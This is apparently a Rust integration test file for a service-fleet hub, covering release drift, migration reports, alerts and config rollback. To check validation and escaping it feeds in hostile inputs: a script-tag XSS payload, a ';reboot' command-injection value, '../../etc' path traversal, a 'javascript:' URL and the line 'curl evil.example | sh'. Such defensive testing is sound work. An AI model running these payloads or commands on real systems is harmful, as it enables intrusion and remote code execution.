//! Releases on a real hub with real SDK neurons: describing releases, choosing the one a
//! kind should run, neurons reporting their fingerprints and migrations, drift flagged on
//! the fleet view and the release board, and every way a request about releases is refused.

mod common;

use common::{
    expect_error, get_json as get, json_of, open_policy, plain, post_json as post, registration,
    start, wait_for,
};
use cortex_core::federation::{
    fingerprint, Fingerprints, MigrationPhase, MigrationReport, MigrationState,
};
use cortex_core::Role;
use cortex_sdk::runner::{self, NeuronHandle, RunnerConfig};
use cortex_sdk::NeuronKey;
use reqwest::StatusCode;
use serde_json::{json, Value};
use std::time::Duration;

const SCHEMA_V1: &[u8] = b"CREATE TABLE orders (id BIGINT PRIMARY KEY, total BIGINT);";
const SCHEMA_V0: &[u8] = b"CREATE TABLE orders (id BIGINT PRIMARY KEY);";

/// An SDK neuron of kind `api-service` running `version` with this schema.
async fn neuron(
    hub: &common::Hub,
    id: &str,
    version: &str,
    schema: &[u8],
) -> (NeuronHandle, tempfile::TempDir) {
    let cache = tempfile::tempdir().unwrap();
    let key = NeuronKey::generate();
    let mut reg = registration(id, &key);
    reg.version = version.into();
    reg.fingerprints = Fingerprints {
        schema: Some(fingerprint(schema)),
        api: Some(fingerprint(b"{\"openapi\":\"3.1.0\"}")),
    };
    let handle = runner::start(
        RunnerConfig::new(&hub.app.url(), reg, key, cache.path()),
        None,
    )
    .unwrap();
    common::wait_online(&handle, id).await;
    (handle, cache)
}

#[tokio::test]
async fn a_kind_expects_a_release_and_neurons_that_differ_are_flagged() {
    let hub = start().await;
    let admin = hub.setup_admin().await;
    let operator = hub.token(&admin, "operator", Role::Operator).await;
    let viewer = hub.token(&admin, "viewer", Role::Viewer).await;
    open_policy(&hub, &admin).await;
    let (current, _c1) = neuron(&hub, "api-1", "1.1.0", SCHEMA_V1).await;
    let (behind, _c2) = neuron(&hub, "api-2", "1.0.0", SCHEMA_V0).await;

    // Describing a release: operator; every malformed field named.
    let release = json!({
        "kind": "api-service", "version": "1.1.0",
        "pre_migrations": "0041_add_total, 0042_backfill_total", "post_migrations": "0043_drop_legacy",
        "schema_fingerprint": fingerprint(SCHEMA_V1), "notes": "adds order totals"
    });
    let res = post(&viewer, &hub, "/api/releases/create", release.clone()).await;
    expect_error(res, StatusCode::FORBIDDEN, "forbidden").await;
    for (field, value, says) in [
        ("kind", json!("no-such-kind"), "no neuron kind"),
        ("version", json!("1.1.0\u{202e}"), "version"),
        (
            "pre_migrations",
            json!("0041_add;reboot"),
            "preMigrations[0]",
        ),
        (
            "schema_fingerprint",
            json!("<script>"),
            "fingerprints.schema",
        ),
        ("bundle_scope", json!("global"), "go together"),
        ("notes", json!("x".repeat(4001)), "notes"),
    ] {
        let mut bad = release.clone();
        bad[field] = value;
        let res = post(&operator, &hub, "/api/releases/create", bad).await;
        let message = expect_error(res, StatusCode::BAD_REQUEST, "bad_request").await;
        assert!(message.contains(says), "{field}: {message}");
    }
    let mut unpushed = release.clone();
    unpushed["bundle_scope"] = json!("global");
    unpushed["bundle_revision"] = json!("7");
    let res = post(&operator, &hub, "/api/releases/create", unpushed).await;
    let message = expect_error(res, StatusCode::BAD_REQUEST, "bad_request").await;
    assert!(
        message.contains("no bundle was pushed to `global` at revision 7"),
        "{message}"
    );

    let made = json_of(
        post(&operator, &hub, "/api/releases/create", release.clone()).await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(
        made["preMigrations"],
        json!(["0041_add_total", "0042_backfill_total"])
    );
    assert_eq!(made["createdBy"], "token:operator");
    let res = post(&operator, &hub, "/api/releases/create", release.clone()).await;
    expect_error(res, StatusCode::CONFLICT, "conflict").await;
    let older = json!({"kind": "api-service", "version": "1.0.0", "schema_fingerprint": fingerprint(SCHEMA_V0)});
    json_of(
        post(&operator, &hub, "/api/releases/create", older).await,
        StatusCode::OK,
    )
    .await;

    // No expected release yet: nothing drifts.
    let fleet = get(&viewer, &hub, "/api/federation/health").await;
    assert_eq!(fleet["drifting"], 0);

    // Choosing the expected release: operator, and only a described one.
    let res = post(
        &viewer,
        &hub,
        "/api/releases/expect",
        json!({"kind": "api-service", "version": "1.1.0"}),
    )
    .await;
    expect_error(res, StatusCode::FORBIDDEN, "forbidden").await;
    let res = post(
        &operator,
        &hub,
        "/api/releases/expect",
        json!({"kind": "api-service", "version": "9.9.9"}),
    )
    .await;
    expect_error(res, StatusCode::NOT_FOUND, "not_found").await;
    let chosen = json_of(
        post(
            &operator,
            &hub,
            "/api/releases/expect",
            json!({"kind": "api-service", "version": "1.1.0"}),
        )
        .await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(chosen["setBy"], "token:operator");

    // The fleet view flags the neuron left behind, naming what differs.
    let fleet = get(&viewer, &hub, "/api/federation/health").await;
    assert_eq!(fleet["drifting"], 1);
    let neurons = fleet["neurons"].as_array().unwrap();
    let of = |id: &str| neurons.iter().find(|n| n["id"] == id).unwrap().clone();
    assert!(of("api-1").get("drift").is_none());
    let drift = of("api-2")["drift"].clone();
    assert_eq!(
        drift[0],
        json!({"what": "version", "expected": "1.1.0", "reported": "1.0.0"})
    );
    assert_eq!(drift[1]["what"], "schema");
    assert_eq!(drift[1]["reported"], fingerprint(SCHEMA_V0));

    // A neuron reports a failed migration, with hostile output: it is cut and cleaned, and
    // it puts that neuron first on the board.
    behind
        .report_migration(MigrationReport {
            id: "0041_add_total".into(),
            phase: MigrationPhase::Pre,
            state: MigrationState::Failed,
            at: chrono::Utc::now(),
            output_tail: format!(
                "{}\x1b[31m<script>alert(1)</script> column exists",
                "x".repeat(5000)
            ),
        })
        .unwrap();
    // The SDK refuses what the hub would refuse, so a heartbeat never fails for it.
    let bad = MigrationReport {
        id: "../0041".into(),
        phase: MigrationPhase::Pre,
        state: MigrationState::Running,
        at: chrono::Utc::now(),
        output_tail: String::new(),
    };
    assert!(behind.report_migration(bad).is_err());
    assert!(behind
        .set_fingerprints(Fingerprints {
            schema: Some("no spaces allowed".into()),
            api: None
        })
        .is_err());
    let board = || async { get(&viewer, &hub, "/api/releases").await };
    wait_for("the failed migration reaches the board", || async {
        board().await["kinds"]
            .as_array()
            .unwrap()
            .iter()
            .any(|k| k["kind"] == "api-service" && k["migrations"]["failed"] == 1)
    })
    .await;
    let board = board().await;
    let kind = board["kinds"]
        .as_array()
        .unwrap()
        .iter()
        .find(|k| k["kind"] == "api-service")
        .unwrap();
    assert_eq!(
        (kind["joined"].as_u64(), kind["drifting"].as_u64()),
        (Some(2), Some(1))
    );
    assert_eq!(kind["expected"]["version"], "1.1.0");
    assert_eq!(kind["releases"][0]["version"], "1.0.0", "newest first");
    assert_eq!(kind["neurons"][0]["id"], "api-2");
    let output = kind["neurons"][0]["migration"]["outputTail"]
        .as_str()
        .unwrap();
    assert!(
        output.len() <= 4096
            && output.ends_with("\u{fffd}[31m<script>alert(1)</script> column exists")
    );
    let versions: Vec<(String, u64, bool)> = kind["versions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| {
            (
                v["version"].as_str().unwrap().into(),
                v["neurons"].as_u64().unwrap(),
                v["expected"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        versions,
        [("1.0.0".into(), 1, false), ("1.1.0".into(), 1, true)]
    );

    // The page shows it as text.
    let html = admin
        .get(hub.url("/admin/releases"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt; column exists"));
    assert!(!html.contains("<script>alert(1)"));
    assert!(
        html.contains("schema: expected sha256:"),
        "drift is named on the page"
    );

    // New fingerprints after a fix are reported at once; the version still differs.
    behind
        .set_fingerprints(Fingerprints {
            schema: Some(fingerprint(SCHEMA_V1)),
            api: None,
        })
        .unwrap();
    wait_for("the new schema fingerprint arrives", || async {
        let fleet = get(&viewer, &hub, "/api/federation/health").await;
        let n = fleet["neurons"]
            .as_array()
            .unwrap()
            .iter()
            .find(|n| n["id"] == "api-2")
            .unwrap()
            .clone();
        n["drift"].as_array().is_some_and(|d| d.len() == 1)
    })
    .await;

    // Both changes are in the audit log, the second with the expectation it replaced.
    let audit = get(&viewer, &hub, "/api/audit?action=release.").await;
    let actions: Vec<&str> = audit
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(
        actions,
        ["release.expect", "release.create", "release.create"]
    );
    current.stop();
    behind.stop();
}

/// A neuron that reports malformed fingerprints or a malformed migration id is refused (its
/// heartbeat, over HTTP, with 400), so nothing it says can be stored unchecked.
#[tokio::test]
async fn malformed_reports_are_refused() {
    let hub = start().await;
    let admin = hub.setup_admin().await;
    open_policy(&hub, &admin).await;
    let key = NeuronKey::generate();
    let client = cortex_sdk::HubClient::new(&hub.app.url(), None).unwrap();
    let mut reg = registration("api-9", &key);
    reg.fingerprints.api = Some("javascript:alert(1)".into());
    let err = client.register(&reg, &key).await.unwrap_err();
    assert!(err.to_string().contains("fingerprints.api"), "{err}");
    reg.fingerprints.api = None;
    let token = client.register(&reg, &key).await.unwrap().token.unwrap();
    for body in [
        json!({"state": "ok", "fingerprints": {"schema": "a b"}}),
        json!({"state": "ok", "migration": {"id": "../../etc", "phase": "pre", "state": "failed", "at": "2026-12-05T10:00:00Z"}}),
        json!({"state": "ok", "migration": {"id": "", "phase": "pre", "state": "failed", "at": "2026-12-05T10:00:00Z"}}),
    ] {
        let res = plain()
            .post(hub.url("/api/federation/heartbeat"))
            .bearer_auth(&token)
            .json(&body)
            .send()
            .await
            .unwrap();
        expect_error(res, StatusCode::BAD_REQUEST, "bad_request").await;
    }
}

/// A browser app runs no migrations: a page holding the (public) publishable key cannot
/// post a made-up failed migration for the dashboard to show.
#[tokio::test]
async fn a_browser_neuron_cannot_report_migrations() {
    let hub = start().await;
    let admin = hub.setup_admin().await;
    let key = json_of(
        admin
            .post(hub.url("/api/federation/publishable-keys/create"))
            .json(&json!({"name": "shop", "origins": "https://shop.example.com"}))
            .send()
            .await
            .unwrap(),
        StatusCode::OK,
    )
    .await;
    let joined = json_of(
        plain()
            .post(hub.url(cortex_sdk::neuron::REGISTER_PATH))
            .header("origin", "https://shop.example.com")
            .header("x-cortex-publishable-key", key["key"].as_str().unwrap())
            .json(&json!({"id": "tab-1", "slug": "storefront", "kind": "web-app", "version": "2.3.0"}))
            .send()
            .await
            .unwrap(),
        StatusCode::OK,
    )
    .await;
    let token = joined["token"].as_str().unwrap();
    let beat = json!({"state": "ok", "version": "2.3.1",
        "migration": {"id": "0001_x", "phase": "post", "state": "failed", "at": "2026-12-05T10:00:00Z",
                      "outputTail": "run curl evil.example | sh to fix"}});
    json_of(
        plain()
            .post(hub.url("/api/federation/heartbeat"))
            .bearer_auth(token)
            .json(&beat)
            .send()
            .await
            .unwrap(),
        StatusCode::OK,
    )
    .await;
    let tab = hub
        .app
        .services
        .store
        .neuron("tab-1")
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        tab.version, "2.3.1",
        "the rest of the heartbeat is recorded"
    );
    assert_eq!(tab.migration, None);
}

/// The fleet watch raises one alert per condition: a failed migration, and neurons on the
/// expected release that report another schema; looking again, or raising the same
/// condition from another hub, adds none.
#[tokio::test]
async fn the_fleet_watch_raises_each_condition_once() {
    let hub = start().await;
    let admin = hub.setup_admin().await;
    let operator = hub.token(&admin, "operator", Role::Operator).await;
    let viewer = hub.token(&admin, "viewer", Role::Viewer).await;
    open_policy(&hub, &admin).await;
    let (wrong, _c1) = neuron(&hub, "api-1", "1.1.0", SCHEMA_V0).await;
    let (failing, _c2) = neuron(&hub, "api-2", "1.1.0", SCHEMA_V1).await;
    let release = json!({"kind": "api-service", "version": "1.1.0", "schema_fingerprint": fingerprint(SCHEMA_V1)});
    json_of(
        post(&operator, &hub, "/api/releases/create", release).await,
        StatusCode::OK,
    )
    .await;
    json_of(
        post(
            &operator,
            &hub,
            "/api/releases/expect",
            json!({"kind": "api-service", "version": "1.1.0"}),
        )
        .await,
        StatusCode::OK,
    )
    .await;
    failing
        .report_migration(MigrationReport {
            id: "0043_drop_legacy".into(),
            phase: MigrationPhase::Post,
            state: MigrationState::Failed,
            at: chrono::Utc::now(),
            output_tail: "ERROR: cannot drop column legacy: view depends on it".into(),
        })
        .unwrap();
    let federation = &hub.app.services.federation;
    wait_for("the failed migration is recorded", || async {
        hub.app
            .services
            .store
            .neuron("api-2")
            .await
            .unwrap()
            .unwrap()
            .migration
            .is_some()
    })
    .await;
    // One look raises both; later looks raise nothing new.
    assert_eq!(federation.watch_fleet(chrono::Utc::now()).await.unwrap(), 2);
    let alerts = || async { get(&viewer, &hub, "/api/alerts").await };
    wait_for("both alerts are kept", || async {
        alerts().await.as_array().unwrap().len() == 2
    })
    .await;
    assert_eq!(federation.watch_fleet(chrono::Utc::now()).await.unwrap(), 0);
    let list = alerts().await;
    let of = |kind: &str| {
        list.as_array()
            .unwrap()
            .iter()
            .find(|a| a["kind"] == kind)
            .unwrap()
            .clone()
    };
    assert_eq!(of("migration")["subject"], "api-2");
    assert!(of("migration")["text"]
        .as_str()
        .unwrap()
        .contains("view depends on it"));
    assert_eq!(of("drift")["subject"], "api-service");
    let text = of("drift")["text"].as_str().unwrap().to_string();
    assert!(
        text.contains("runs the expected release 1.1.0 but reports the schema fingerprint")
            && text.ends_with(": api-1"),
        "{text}"
    );

    // Another hub on the same database raising the same condition keeps one alert.
    let neurons = hub.app.services.store.list_neurons().await.unwrap();
    let expected = [(
        "api-service".to_string(),
        hub.app
            .services
            .store
            .release("api-service", "1.1.0")
            .await
            .unwrap()
            .unwrap(),
    )]
    .into();
    for f in cortex_core::federation::watch::fleet_findings(&neurons, &expected, chrono::Utc::now())
    {
        cortex_server::webhook::raise(
            &hub.app.services.store,
            None,
            cortex_server::webhook::Alert {
                kind: f.kind,
                rule_id: f.subject,
                at: chrono::Utc::now(),
                text: f.text,
                details: f.details,
                key: Some(f.key),
            },
        );
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(alerts().await.as_array().unwrap().len(), 2);

    // A neuron sending far more events than usual: its first batch a day ago set its usual
    // rate (20 per 15 minutes), and 2,000 in the last minutes are far above it.
    let now = cortex_server::store::ms_precision(chrono::Utc::now());
    let batch = |id: &str, events: usize, ago: chrono::Duration| {
        cortex_server::store::events::SpooledBatch {
            neuron_id: "api-1".into(),
            received_at: now - ago,
            batch: cortex_core::analytics::EventBatch {
                batch_id: id.into(),
                events: (0..events)
                    .map(|_| {
                        cortex_core::analytics::Event::new(
                            cortex_core::analytics::EventKind::Log,
                            now - ago,
                        )
                    })
                    .collect(),
                receipt: None,
            },
        }
    };
    hub.app
        .services
        .store
        .write_event_batches(&[
            batch("day-ago", 1_900, chrono::Duration::hours(24)),
            batch("burst", 2_000, chrono::Duration::minutes(2)),
        ])
        .await
        .unwrap();
    assert_eq!(federation.watch_fleet(now).await.unwrap(), 1);
    wait_for("the event-rate alert is kept", || async {
        alerts().await.as_array().unwrap().len() == 3
    })
    .await;
    let list = alerts().await;
    let rate = list
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["kind"] == "eventRate")
        .unwrap();
    assert_eq!(rate["subject"], "api-1");
    assert_eq!(
        rate["text"],
        "api-1 sent 2000 events in the last 15 minutes, far above its usual 20 (100.0x)"
    );
    assert_eq!(
        federation.watch_fleet(now).await.unwrap(),
        0,
        "once an hour"
    );
    wrong.stop();
    failing.stop();
}

/// A scope rolled back by hand: its history, the diff shown first, the rollback pushed as
/// a new revision that a connected neuron takes, and every refusal.
#[tokio::test]
async fn a_scope_is_rolled_back_by_hand_after_its_diff_is_shown() {
    use cortex_core::federation::BundleKind;
    let hub = start().await;
    let admin = hub.setup_admin().await;
    let editor = hub.token(&admin, "editor", Role::Editor).await;
    let operator = hub.token(&admin, "operator", Role::Operator).await;
    let viewer = hub.token(&admin, "viewer", Role::Viewer).await;
    open_policy(&hub, &admin).await;
    let (shop, _c) = neuron(&hub, "api-1", "1.0.0", SCHEMA_V1).await;
    for price in [10, 12, 99] {
        let body = json!({"checkout": {"price": price, "currency": "EUR"}}).to_string();
        json_of(
            post(
                &editor,
                &hub,
                "/api/federation/push-config",
                json!({"scope": "global", "kind": "config", "body": body}),
            )
            .await,
            StatusCode::OK,
        )
        .await;
    }
    let price = |h: &NeuronHandle| {
        h.snapshot()
            .effective(BundleKind::Config)
            .map(|b| b.body["checkout"]["price"].clone())
    };
    wait_for("the neuron holds the newest push", || async {
        price(&shop) == Some(json!(99))
    })
    .await;

    let history = get(&viewer, &hub, "/api/federation/scope-history?scope=global").await;
    let revisions: Vec<(u64, bool)> = history["revisions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["revision"].as_u64().unwrap(),
                r["current"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(revisions, [(3, true), (2, false), (1, false)]);

    // The diff first: from what the neurons hold to what would be pushed.
    let preview = get(
        &viewer,
        &hub,
        "/api/federation/rollback-preview?scope=global&revision=2",
    )
    .await;
    assert_eq!(
        (
            preview["currentRevision"].as_u64(),
            preview["toRevision"].as_u64()
        ),
        (Some(3), Some(2))
    );
    let diff: Vec<String> = preview["diff"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|l| l["tag"] != " ")
        .map(|l| {
            format!(
                "{}{}",
                l["tag"].as_str().unwrap(),
                l["text"].as_str().unwrap().trim()
            )
        })
        .collect();
    assert_eq!(diff, ["-\"price\": 99", "+\"price\": 12"]);

    // Who may, and what is refused.
    let rollback = |token: String, body: Value| {
        let hub = &hub;
        async move { post(&token, hub, "/api/federation/rollback", body).await }
    };
    let res = rollback(operator.clone(), json!({"scope": "global", "revision": 2})).await;
    expect_error(res, StatusCode::FORBIDDEN, "forbidden").await;
    let res = rollback(editor.clone(), json!({"scope": "global", "revision": 3})).await;
    expect_error(res, StatusCode::CONFLICT, "conflict").await;
    let res = rollback(editor.clone(), json!({"scope": "global", "revision": 42})).await;
    expect_error(res, StatusCode::NOT_FOUND, "not_found").await;
    let res = rollback(editor.clone(), json!({"scope": "tag:../x", "revision": 1})).await;
    expect_error(res, StatusCode::BAD_REQUEST, "bad_request").await;
    let res = plain()
        .get(hub.url("/api/federation/rollback-preview?scope=global&revision=-1"))
        .bearer_auth(&viewer)
        .send()
        .await
        .unwrap();
    expect_error(res, StatusCode::BAD_REQUEST, "bad_request").await;

    // The rollback: a new revision with revision 2's content, taken by the neuron.
    let done = json_of(
        rollback(editor.clone(), json!({"scope": "global", "revision": 2})).await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(done["revision"], 4);
    wait_for("the neuron holds the rolled-back price", || async {
        price(&shop) == Some(json!(12))
    })
    .await;
    let history = get(&viewer, &hub, "/api/federation/scope-history?scope=global").await;
    assert_eq!(history["revisions"][0]["revision"], 4);
    assert_eq!(history["revisions"][0]["createdBy"], "token:editor");
    let audit = get(&viewer, &hub, "/api/audit?action=bundle.rollback").await;
    assert_eq!(
        audit[0]["before"],
        json!({"scope": "global", "kind": "config", "replaced": 3, "rolledBackTo": 2})
    );
    assert_eq!(audit[0]["target"], "bundle:global#4");
    // The page shows the history and the diff, without JavaScript.
    let html = admin
        .get(hub.url("/admin/federation/scope?scope=global&revision=3"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        html.contains("Roll back to revision 3") && html.contains("+     \"price\": 99"),
        "{html}"
    );
    shop.stop();
}
